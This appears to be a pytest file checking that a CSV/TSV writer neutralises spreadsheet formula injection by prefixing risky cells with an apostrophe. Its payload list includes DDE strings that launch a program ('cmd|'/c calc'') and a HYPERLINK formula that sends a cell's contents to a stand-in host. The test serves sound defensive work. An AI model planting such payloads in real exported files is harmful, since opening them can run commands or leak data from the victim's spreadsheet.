"""No cell of ours is run by a spreadsheet."""

import pytest

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example?d="&A1,"click")',
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "-",
    "+",
    "=",
    "-5\n=1",
    "- 5",
    "-5,3",
    "-inf",
    "+1-2",
    "-\u0665",
]
HARMLESS = ["", "a=1", "'=1", " =1", "a@b.c", "-5", "+3.2e4", "-.5", "-5.", "+0", "-1E-7", "007"]


@pytest.mark.parametrize("name", ["a.csv", "a.tsv"])
def test_cells_that_would_run_get_an_apostrophe_and_a_blank(tmp_path, write, name):
    path = write(tmp_path / name, {"=head": PAYLOADS, "n": [-1] * len(PAYLOADS)})
    import csv

    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, delimiter="," if name == "a.csv" else "\t"))
    assert rows[0] == ["' =head", "n"]
    assert rows[1:] == [[f"' {payload}", "-1"] for payload in PAYLOADS]


def test_numbers_and_ordinary_texts_stay(tmp_path, write, read):
    path = write(tmp_path / "a.csv", {"a": HARMLESS})
    assert [row[0] for row in read(path).rows] == HARMLESS


def test_escaping_can_be_left_out(tmp_path, write):
    path = write(tmp_path / "a.csv", {"=h": ["=1+1", "@x"]}, escape=False)
    assert path.read_text() == "=h\n=1+1\n@x\n"


def test_only_spreadsheet_text_is_escaped(tmp_path, write):
    assert write(tmp_path / "a.jsonl", {"a": ["=1"]}).read_text() == '{"a": "=1"}\n'
